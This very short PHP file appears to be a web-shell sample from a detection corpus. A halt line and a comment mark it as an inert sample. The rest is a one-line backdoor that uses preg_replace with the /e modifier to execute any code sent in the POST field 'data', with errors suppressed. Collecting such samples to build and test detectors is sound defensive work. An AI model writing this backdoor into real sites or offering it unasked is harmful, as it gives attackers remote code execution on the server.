<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
@preg_replace("/fpq/e", $_POST['data'], "qve");
